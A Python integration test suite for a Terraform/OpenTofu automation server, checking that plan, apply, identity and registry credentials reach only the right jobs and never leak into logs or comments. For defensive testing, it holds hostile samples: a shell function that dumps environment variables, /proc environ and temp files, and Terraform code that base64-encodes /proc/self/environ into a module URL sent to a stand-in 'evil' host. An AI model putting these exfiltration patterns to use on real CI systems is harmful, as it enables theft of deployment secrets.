#!/usr/bin/env python3
"""What jobs may use elsewhere: credentials of plan and apply, identities that a cloud believes, private modules. Real
server, real git; the stub tool or real ones.

    tests/integration/test_credentials.py [CASE ...]

Results: build/report/results/credentials.tsv."""

import contextlib
import functools
import json
import os
import shutil
import subprocess
import sys
import tempfile
import time

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
sys.path.insert(0, os.path.join(os.path.dirname(os.path.dirname(os.path.abspath(__file__))), "lib"))
import sluice  # noqa: E402
import host_lab  # noqa: E402
import tls_place  # noqa: E402
from one_pull import OnePull  # noqa: E402
from runner_lab import cli_config, tool  # noqa: E402
from sluice import expect  # noqa: E402

MODE = os.environ.get("MODE", "debug")
STUB = os.path.join(sluice.ROOT, "build", MODE, "tests", "stub-terraform")
TF = "# stub: create=1\n"
REPO = "version: 3\nprojects:\n- {name: p, dir: p, environment: prod}\nenvironments:\n  prod: {credentials: main}\n"
CASES = []
PLAN_SECRET, APPLY_SECRET, MINTED = "plan-sesame-0815-only", "apply-sesame-4711-only", "minted-sesame-%d-now"

# What a sandbox knows, for the test alone; it prints its secrets, too, as a hostile tool would.
LOOK = r"""
look() {{
env | sort > {seen}/$1.env
cat /proc/1/environ > {seen}/$1.first 2>/dev/null
find /tmp -path {seen} -prune -o -type f -size -16k -exec sh -c 'echo "== $1"; cat "$1"' - {{}} \; > {seen}/$1.files 2>/dev/null
env; env | base64 -w0; cat {seen}/$1.files
}}
"""
# Looks, and then does what the tool does. Init comes in two halves.
TOOL = """#!/bin/bash
%s
case "$1 $*" in
init*-backend=false*) name=init;;
init*) name=backend;;
*) name=$1;;
esac
case $1 in init|plan|apply) look $name >&2;; esac
%s
exec {tool} "$@"
"""


def case(function):
    CASES.append((function.__name__, function))
    return function


def indent(text, by):
    return "".join(" " * by + line + "\n" for line in text.strip().splitlines())


class Place(OnePull):
    """A server with credentials."""

    def __init__(self, base=None, change=None, profile="", more="", program=None, kind="terraform", workflow=True):
        super().__init__("sluice-credentials-", base or {"sluice.yaml": REPO, "p/main.tf": TF}, change or {"p/x.tf": TF})
        os.chmod(self.folder, 0o711)
        self.seen = os.path.join(self.folder, "seen")
        os.mkdir(self.seen)
        os.chmod(self.seen, 0o777)
        self.write("plan.secret", PLAN_SECRET + "\n")
        self.write("apply.secret", APPLY_SECRET + "\n")
        self.ask = "true"
        self.program, self.kind = program or STUB, kind
        tools = os.path.dirname(self.program)
        self.config = (
            "listen: 127.0.0.1:0\nurl: https://sluice.test\n"
            "tools: {%s: %s%s}\n" % (kind, self.folder + "/tool/look", ", cli_config: %s" % cli_config() if program and cli_config() else "")
            + "credentials:\n  main:\n" + indent(profile.format(place=self), 4)
            + (("workflows:\n  default:\n    plan:\n      steps:\n      - init\n      - plan\n      - run: |\n"
                + indent((LOOK + "look run\n").format(seen=self.seen), 10)) if workflow else ""))
        self.more, self.tools = more, tools

    def write(self, name, text, mode=0o600):
        path = os.path.join(self.folder, name)
        with open(path, "w", encoding="utf-8") as out:
            out.write(text)
        os.chmod(path, mode)
        return path

    def __enter__(self):
        os.mkdir(os.path.join(self.folder, "tool"), 0o755)
        self.write("tool/look", (TOOL % (LOOK, self.ask)).format(seen=self.seen, tool=self.program), 0o755)
        sandbox = "sandbox:\n  write: [%s]\n  read: [%s, %s/tool]\n" % (self.seen, self.tools, self.folder)
        self.serve(MODE, self.config + sandbox + self.more.format(place=self))
        return super().__enter__()

    def apply(self):
        self.act("approve", "bob")
        return self.say("sluice apply", "bob")

    def logs(self):
        """What the jobs printed, as it is kept."""
        for folder, _, names in os.walk(os.path.join(self.server.data, "blobs")):
            for name in names:
                with open(os.path.join(folder, name), encoding="utf-8", errors="replace") as text:
                    yield text.read()

    def comments(self):
        return "\n".join(c["body"] for c in self.server.must("GET", "/local/pulls/1")["comments"])

    def found(self, name, kind="env"):
        path = os.path.join(self.seen, "%s.%s" % (name, kind))
        if not os.path.exists(path):
            return None
        with open(path, encoding="utf-8", errors="replace") as text:
            return text.read()

    def holders(self, value):
        """Files of the data folder, and texts that people read, in which the value stands."""
        found = []
        for folder, _, names in os.walk(self.server.data):
            for name in names:
                path = os.path.join(folder, name)
                with contextlib.suppress(FileNotFoundError):  # what is thrown away goes meanwhile
                    if os.path.isfile(path):
                        with open(path, "rb") as content:
                            if value.encode() in content.read():
                                found.append(os.path.relpath(path, self.server.data))
        if value in self.comments():
            found.append("a comment")
        return found


PROFILE = """
repos: local/*
plan:
  variables: {{REGION: {{value: eu-1}}, PLAN_KEY: {{file: {place.folder}/plan.secret}}}}
  command: [{place.folder}/mint, plan]
apply:
  variables: {{APPLY_KEY: {{file: {place.folder}/apply.secret}}}}
  command: [{place.folder}/mint, apply]
"""
MINT = "#!/bin/sh\necho \"MINTED_$1=minted-sesame-$SLUICE_JOB-now\"\necho FACTS=$SLUICE_REPOSITORY,$SLUICE_ENVIRONMENT,$SLUICE_OPERATION\n"


@case
def plan_and_apply_get_their_own():
    place = Place(profile=PROFILE)
    place.write("mint", MINT, 0o700)
    with place:
        run = place.newest()
        expect(run["state"], "done", place.comments())
        plan, init, backend_half = place.found("plan"), place.found("init"), place.found("backend")
        assert "REGION=eu-1" in plan and "PLAN_KEY=" + PLAN_SECRET in plan, plan
        assert "MINTED_plan=minted-sesame-" in plan and "FACTS=local/r,prod,plan" in plan, plan
        assert APPLY_SECRET not in plan and "MINTED_apply" not in plan, plan
        assert "KEY=" not in init and "MINTED" not in init, init
        assert "PLAN_KEY=" + PLAN_SECRET in backend_half, backend_half
        assert "PATH=" in place.found("run") and "KEY=" not in place.found("run"), "a command of the workflow"
        expect((place.found("plan", "first"), place.found("init", "first")), ("", ""), "what the first process had")
        expect(place.apply()["state"], "done", place.comments())
        apply = place.found("apply")
        assert "APPLY_KEY=" + APPLY_SECRET in apply and "FACTS=local/r,prod,apply" in apply, apply
        assert PLAN_SECRET not in apply, apply
        log = place.server.log_text()
        minted = [line.split("=", 1)[1] for line in (plan + apply).splitlines() if line.startswith("MINTED_")]
        expect(len(set(minted)), 2, "each job has its own")
        for value in [PLAN_SECRET, APPLY_SECRET, *minted]:
            expect(place.holders(value), [], "where %s stands" % value)
            assert value not in log, value
        logs = "".join(text for text in place.logs())
        assert "REGION=eu-1" in logs and "PLAN_KEY=***" in logs, "the tool did print what it knows: %s" % logs


FORK_SERVER = """    forks: plan_on_command
credentials:
  main:
    repos: github.com/*/*
    plan: {{variables: {{PLAN_KEY: {{file: {folder}/plan.secret}}}}}}
    apply: {{variables: {{APPLY_KEY: {{file: {folder}/plan.secret}}}}}}
registries:
  registry.example: {{repos: github.com/*/*, token_file: {folder}/plan.secret}}
repos:
- {{id: /.*/, allowed_overrides: [workflow, apply_requirements], allow_custom_workflows: true}}
sandbox: {{write: [{folder}/seen], read: [{tools}, {folder}/tool]}}
"""
# A head that would like to be trusted: the environment of the base, one of its own with the same credentials, a workflow.
FORK_HEAD = """version: 3
projects:
- {name: p, dir: p0, environment: %s, workflow: mine}
environments:
  prod: {credentials: main}
  mine: {credentials: main}
workflows:
  mine: {plan: {steps: [init, plan]}}
"""


@case
def a_fork_gets_nothing():
    """Whatever its configuration says, and though a maintainer asks for the plan; the same from a branch has its key."""
    folder = tempfile.mkdtemp(prefix="sluice-fork-")
    os.chmod(folder, 0o711)
    os.makedirs(folder + "/tool", 0o755)
    os.mkdir(folder + "/seen")
    os.chmod(folder + "/seen", 0o777)
    with open(folder + "/plan.secret", "w", opener=lambda path, flags: os.open(path, flags, 0o600)) as out:
        out.write(PLAN_SECRET + "\n")
    with open(folder + "/tool/look", "w", opener=lambda path, flags: os.open(path, flags, 0o755)) as out:
        out.write((TOOL % (LOOK, "true")).format(seen=folder + "/seen", tool=STUB))
    settings = FORK_SERVER.format(folder=folder, tools=os.path.dirname(STUB))

    def seen(name):
        with open("%s/seen/%s.env" % (folder, name), encoding="utf-8", errors="replace") as text:
            return text.read()

    def planned(made, number, names=("init", "plan")):
        expect(made.idle(number)[0]["state"], "done", [one["json"]["body"] for one in made.ours(number)])
        return [seen(name) for name in names]

    try:
        with host_lab.lab(tool=folder + "/tool/look", settings=settings,
                          files={"sluice.yaml": REPO.replace("dir: p,", "dir: p0,")}) as made:
            branch = made.plan()
            init, plan = planned(made, branch)
            assert "PLAN_KEY=" + PLAN_SECRET in plan and "TF_TOKEN_registry_example=" in init, (init, plan)
            made.fake.change_pull(made.repo, branch, "alice", "closed", state="closed")  # and gives its lock away
            for environment in ("prod", "mine"):
                made.push("other", {"sluice.yaml": FORK_HEAD % environment, "p0/y.tf": "# %s\n" % environment}, "stranger")
                shutil.rmtree(folder + "/seen", ignore_errors=True)
                os.mkdir(folder + "/seen")
                os.chmod(folder + "/seen", 0o777)
                fork = made.fake.open_pull(made.repo, "stranger", "other", fork=True)
                made.says(fork, "fork")
                made.fake.comment(made.repo, fork, "bob", "sluice plan")
                made.wait(lambda: [run for run in made.server.must("GET", "/api/runs") if run["pull"] == fork])
                for text in planned(made, fork, ["backend", "plan"] if environment == "prod" else ["plan"]):  # its init is whole, and kept
                    assert "PATH=" in text and PLAN_SECRET not in text and "_KEY" not in text and "TF_TOKEN" not in text, text
                made.fake.change_pull(made.repo, fork, "stranger", "closed", state="closed")
    finally:
        shutil.rmtree(folder, ignore_errors=True)


@case
def nothing_without_an_environment():
    """A project that names none gets none, and hooks of the server get none either."""
    hook = "repos:\n- id: /.*/\n  pre_workflow_hooks:\n  - run: env > {place.seen}/hook.env\n"
    base = {"sluice.yaml": REPO.replace(", environment: prod", ""), "p/main.tf": TF}
    place = Place(base, profile=PROFILE, more=hook)
    place.write("mint", MINT, 0o700)
    with place:
        expect(place.newest()["state"], "done", place.comments())
        for name in ("backend", "plan", "hook"):
            assert "PATH=" in place.found(name) and "KEY=" not in place.found(name), name


@case
def a_new_environment_of_the_head_gets_none():
    """The attack: a pull request that gives itself the credentials of the server."""
    base = {"sluice.yaml": "version: 3\nprojects:\n- {name: p, dir: p}\n", "p/main.tf": TF}
    place = Place(base, {"sluice.yaml": REPO, "p/x.tf": TF}, profile=PROFILE)
    place.write("mint", MINT, 0o700)
    with place:
        expect(place.newest()["state"], "done", place.comments())
        assert "KEY=" not in place.found("plan"), place.found("plan")
        assert "nobody gets credentials before it is merged" in place.comments(), place.comments()


@case
def a_profile_for_other_repositories():
    place = Place(profile=PROFILE.replace("local/*", "local/other"))
    place.write("mint", MINT, 0o700)
    with place:
        expect(place.newest()["state"], "failed")
        assert "are not for this repository" in place.comments(), place.comments()
        expect(place.found("plan"), None, "nothing was run")


@case
def a_profile_that_there_is_not():
    base = {"sluice.yaml": REPO.replace("credentials: main", "credentials: mian"), "p/main.tf": TF}
    place = Place(base, profile=PROFILE)
    place.write("mint", MINT, 0o700)
    with place:
        expect(place.newest()["state"], "failed")
        assert "names the credentials mian, which the server does not have" in place.comments(), place.comments()


@case
def programs_that_fail():
    for script, said in (("echo sesame-oops >&2; exit 3", "ended with exit code 3"),
                         ("echo 'sesame oops'", "line 1 is not NAME=VALUE"),
                         ("echo '{\"A\": \"sesame\"'", "no JSON object"),
                         ("head -c 100000 /dev/zero | tr '\\0' x; sleep 30", "printed more than 64 KiB"),
                         ("kill -9 $$", "killed by signal 9")):
        place = Place(profile=PROFILE)
        place.write("mint", "#!/bin/sh\n%s\n" % script, 0o700)
        with place:
            began = time.monotonic()
            expect(place.newest()["state"], "failed", script)
            assert time.monotonic() - began < 20, script
            text = place.comments()
            assert "the job has no credentials" in text and said in text and "sesame" not in text, text
            expect(place.found("plan"), None, "nothing was run")
            assert "sesame-oops" not in script or "sesame-oops" in place.server.log_text(), "the operator sees its words"


@case
def a_program_that_leaves_a_daemon():
    """The job goes on when the program ends, not when its pipe does; and nothing of it stays."""
    place = Place(profile=PROFILE)
    place.write("mint", "#!/bin/sh\necho A=b-long-enough\nsleep 4711 &\necho $! > %s/daemon\n" % place.folder, 0o700)
    with place:
        began = time.monotonic()
        expect(place.newest()["state"], "done", place.comments())
        assert time.monotonic() - began < 20
        with open(os.path.join(place.folder, "daemon"), encoding="utf-8") as pid:
            pid = int(pid.read())
        with open("/proc/%d/stat" % pid, encoding="utf-8") if os.path.exists("/proc/%d" % pid) else open(os.devnull) as stat:
            assert stat.read().split(" ")[2:3] in ([], ["Z"]), "it lives"


@case
def a_server_that_is_killed_meanwhile():
    place = Place(profile=PROFILE)
    place.write("mint", "#!/bin/sh\n[ -e %s/again ] || sleep 60\necho A=minted-sesame\n" % place.folder, 0o700)
    with place:
        end = time.monotonic() + 20
        while not any(j["state"] == "starting" for j in place.server.must("GET", "/api/queue")):
            assert time.monotonic() < end, place.server.must("GET", "/api/queue")
            time.sleep(0.05)
        place.server.kill()
        place.write("again", "")
        place.server.start()
        expect(place.newest()["state"], "done", place.comments())
        expect(place.holders("minted-sesame"), [])


# ---- identities ----

IDENTITY = """
repos: local/*
plan:
  identity: {{kind: aws, role: 'arn:aws:iam::1:role/plan', audience: sts.test}}
apply:
  identity: {{kind: aws, role: 'arn:aws:iam::1:role/apply', audience: sts.test, lifetime: 1m}}
"""
ASK = r"""
python3 - <<'END'
import json, os, ssl, sys, urllib.request
door = urllib.request.ProxyHandler({{"https": os.environ["HTTPS_PROXY"]}})
context = ssl.create_default_context()
context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
opener = urllib.request.build_opener(door, urllib.request.HTTPSHandler(context=context))
token = open(os.environ["AWS_WEB_IDENTITY_TOKEN_FILE"]).read()
print("token", token, os.environ["AWS_ROLE_ARN"])
try:
    print(opener.open("https://{host}/sts", json.dumps({{"token": token}}).encode(), timeout=10).read().decode())
except urllib.error.HTTPError as error:
    print(error.read().decode())
END
"""


@case
def a_command_gets_what_the_operator_names():
    """The profile run is told by name; the files that a variable names come with it."""
    told = "  profiles: {{run: {{environment: [PLAN_KEY, AWS_WEB_IDENTITY_TOKEN_FILE]}}}}\n"
    profile = PROFILE.replace("variables: {{REGION", "identity: {{kind: aws, role: r}}\n  variables: {{REGION")
    place = Place(profile=profile, more=told)
    place.write("mint", MINT, 0o700)
    with place:
        expect(place.newest()["state"], "done", place.comments())
        env, files = place.found("run"), place.found("run", "files")
        assert "PLAN_KEY=" + PLAN_SECRET in env and "MINTED" not in env and "AWS_ROLE_ARN" not in env, env
        assert "== /tmp/.credentials/identity" in files, files
        expect(place.holders(PLAN_SECRET), [])


@case
def a_cloud_believes_plan_and_apply():
    place = Place(profile=IDENTITY)
    cloud = tls_place.TlsPlace(place.folder)
    place.ask = "case $name in plan|apply)\n%s\n;; esac\n" % (
        ASK.format(host=cloud.host).strip().replace("{", "{{").replace("}", "}}"))
    place.more = "  profiles: {{plan: {{inside: ['%s']}}, apply: {{inside: ['%s']}}}}\n" % (
        cloud.host, cloud.host)
    cloud.issuer, cloud.audience = "https://sluice.test", "sts.test"
    with place:
        cloud.issuer_at = "http://127.0.0.1:%d" % port_of(place.server)
        place.newest()
        place.server.must("POST", "/local/pulls/1/comments", {"as": "bob", "body": "sluice plan"})
        expect(place.newest()["state"], "done", place.comments())
        expect(cloud.doubts, [], place.comments())
        expect(place.apply()["state"], "done", place.comments())
        plan, apply = cloud.believed[-2:]
        expect([plan["sub"], apply["sub"]], ["repository:local/r:environment:prod:operation:%s:project:p" % word
                                             for word in ("plan", "apply")])
        expect(apply["exp"] - apply["iat"], 60)
        expect(len({claims["jti"] for claims in cloud.believed}), len(cloud.believed), "each job has its own")
        assert "arn:aws:iam::1:role/plan" in place.found("plan") and "role/apply" in place.found("apply")
        assert "identity" not in place.found("init", "files"), place.found("init", "files")
        token = place.found("plan", "files").split("== /tmp/.credentials/identity\n")[1].split("\n")[0]
        expect(place.holders(token), [], "where the token stands")
        assert any("token ***" in text for text in place.logs()), list(place.logs())
        forgeries_are_not_believed(place, cloud, token)


def forgeries_are_not_believed(place, cloud, token):
    """The judge can say no: a payload that was changed, and a key that was thrown away."""
    header, payload, signature = token.split(".")
    keys = tls_place.answer_of(cloud.issuer_at + "/.well-known/jwks.json")
    expect(tls_place.verify_rs256(token, keys)["operation"], "plan")
    try:
        tls_place.verify_rs256(".".join((header, payload[:-4] + "AAAA", signature)), keys)
        raise RuntimeError("a forgery was believed")
    except AssertionError:
        pass
    rotate = subprocess.run([os.path.join(place.server.build, "sluice"), "rotate-key", "--data", place.server.data],
                            check=True, stdout=subprocess.PIPE, text=True)
    assert "signs from now on; 2 published" in rotate.stdout, rotate.stdout
    later = tls_place.answer_of(cloud.issuer_at + "/.well-known/jwks.json")
    expect([later["keys"][1]], keys["keys"], "the older key stays published")
    expect(tls_place.verify_rs256(token, later)["operation"], "plan")
    folder = os.path.join(place.server.data, "identity")
    expect({oct(os.stat(os.path.join(folder, name)).st_mode & 0o777) for name in os.listdir(folder)}, {"0o600"})


def port_of(server):
    for line in server.log_text().splitlines():
        if "ready" in line and "port" in line:
            return json.loads(line)["port"]
    raise AssertionError(server.log_text())


@case
def nobody_vouches_unasked():
    place = Place(profile="repos: local/*\nplan: {{variables: {{A: {{value: b}}}}}}")
    with place:
        expect(place.server.ask("GET", "/.well-known/jwks.json")[0], 404)
        expect(os.path.exists(os.path.join(place.server.data, "identity")), False)


# ---- real tools ----

def real(name):
    found = tool(name)
    if found is None:
        raise sluice.Skip("%s is neither in .tools nor in PATH" % name)
    return os.path.realpath(found)


BACKEND = """
repos: local/*
plan: {{variables: {{TF_HTTP_USERNAME: {{value: robot}}, TF_HTTP_PASSWORD: {{file: {place.folder}/plan.secret}}}}}}
apply: {{variables: {{TF_HTTP_USERNAME: {{value: robot}}, TF_HTTP_PASSWORD: {{file: {place.folder}/plan.secret}}}}}}
"""
THING = 'resource "terraform_data" "x" {\n  input = "one"\n}\n'


def kinds():
    return (("terraform", "terraform"), ("tofu", "opentofu"))


def backend(name, kind):
    """State in a place that wants a password: init, plan and apply of the real tool, in two halves of init."""
    program = real(name)
    place = Place({"sluice.yaml": REPO.replace("dir: p,", "dir: p, kind: %s," % kind)}, profile=BACKEND, program=program,
                  kind=name, workflow=False)
    cloud = tls_place.TlsPlace(place.folder, token=PLAN_SECRET)
    url = "https://%s/state" % cloud.host
    place.base["p/main.tf"] = ('terraform {\n  backend "http" {\n    address = "%s"\n    skip_cert_verification = true\n  }\n}\n' % url)
    place.branches["feature"] = {"p/x.tf": THING}
    place.more = "  profiles: {{plan: {{inside: ['%s']}}, apply: {{inside: ['%s']}}}}\n" % (
        cloud.host, cloud.host)
    with place:
        run = place.newest()
        expect(run["state"], "done", place.comments())
        expect(place.apply()["state"], "done", place.comments())
        assert b"terraform_data" in cloud.states["/state"], cloud.states
        expect(place.holders(PLAN_SECRET), [])
        without = [seen for seen in cloud.seen if seen[2].get("Authorization") is None]
        expect(without, [], "somebody asked without the password")


def private_modules(name, kind, how):
    """A module that wants a password, over HTTPS and over git; nobody but init can read the password."""
    program = real(name)
    profile = "repos: local/*\nplan: {{variables: {{A: {{value: b}}}}}}"
    base = {"sluice.yaml": REPO.replace("dir: p,", "dir: p, kind: %s," % kind), "p/empty.tf": ""}
    with tempfile.TemporaryDirectory() as folder:
        other = tls_place.TlsPlace(folder)
        other.files["/mod.zip"] = tls_place.archive({"m.tf": THING})
        other.git = os.path.join(folder, "mod.git")
        sluice.make_repository(other.git, {"m.tf": THING}, {})
        sluice.git(other.git, "update-server-info")
        with open(os.path.join(folder, "token"), "w", encoding="utf-8") as out:
            out.write(other.token + "\n")
        source = {"https": "https://%s/mod.zip", "git": "git::https://%s/mod.git"}[how] % other.host
        change = {"p/main.tf": 'module "m" {\n  source = "%s"\n}\n'
                               'output "spy" {\n  value = filebase64("/proc/self/environ")\n}\n' % source}
        more = "  profiles: {{init: {{inside: ['%s']}}}}\n" % other.host + (
            "registries:\n  %s: {{repos: 'local/*', user: %s, %%sca_bundle: %s}}\n" % (other.host, other.user, other.ca))
        # the proof that the password is needed: the same without it
        with Place(base, change, profile=profile, more=more % "", program=program, kind=name) as place:
            expect(place.newest()["state"], "failed", place.comments())
            assert other.seen and not any("Authorization" in seen[2] for seen in other.seen), other.seen
        more %= "token_file: %s/token, " % folder
        with Place(base, change, profile=profile, more=more, program=program, kind=name) as place:
            expect(place.newest()["state"], "done", place.comments())
            assert "module.m.terraform_data.x" in place.comments(), place.comments()
            assert other.token in place.found("init", "files"), place.found("init", "files")
            for step in ("plan", "run"):
                for part in ("env", "files"):
                    text = place.found(step, part)
                    assert other.token not in text and "netrc" not in text.lower(), (step, part, text)
            expect(place.holders(other.token), [])
        other.close()


def init_cannot_tell(name="tofu", kind="opentofu"):
    """OpenTofu evaluates functions in the source of a module while init runs: what init knows can be sent away."""
    program = real(name)
    leak = ('locals {\n  spy = replace(filebase64("/proc/self/environ"), "/", "_")\n}\n'
            'module "m" {\n  source = "https://%s/${local.spy}.zip"\n}\n')
    place = Place({"sluice.yaml": REPO.replace("dir: p,", "dir: p, kind: %s," % kind)}, profile=BACKEND, program=program,
                  kind=name, workflow=False)
    evil = tls_place.TlsPlace(place.folder)
    place.branches["feature"] = {"p/main.tf": leak % evil.host}
    place.more = "  profiles: {{init: {{inside: ['%s']}}}}\nregistries:\n  %s: {{repos: 'local/*', ca_bundle: %s}}\n" % (
        evil.host, evil.host, evil.ca)
    work = os.path.join(place.folder, "alone")
    os.mkdir(work)
    with open(os.path.join(work, "main.tf"), "w", encoding="utf-8") as out:
        out.write(leak % evil.host)
    # the proof: without sluice around it, the password is in the hands of whoever wrote that file
    subprocess.run([program, "init", "-input=false"], cwd=work, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, check=False,
                   env={"PATH": "/usr/bin:/bin", "HOME": work, "SSL_CERT_FILE": evil.ca, "TF_HTTP_PASSWORD": PLAN_SECRET})
    assert PLAN_SECRET.encode() in told(evil), evil.seen
    evil.seen.clear()
    with place:
        place.newest()
        assert b"PATH=" in told(evil), "init was not asked at all: %r" % place.comments()
        assert PLAN_SECRET.encode() not in told(evil), told(evil)


def told(evil):
    found = b""
    for _, path, _, _ in evil.seen:
        try:
            found += tls_place.unbase64(path.split("/")[1].split(".zip")[0])
        except ValueError:
            pass
    return found


def cases():
    yield from CASES
    for name, kind in kinds():
        yield "%s_with_a_backend" % kind, functools.partial(backend, name, kind)
        for how in ("https", "git"):
            yield "%s_private_module_over_%s" % (kind, how), functools.partial(private_modules, name, kind, how)
    yield "opentofu_init_cannot_tell", init_cannot_tell


if __name__ == "__main__":
    sluice.run_cases("credentials", list(cases()))
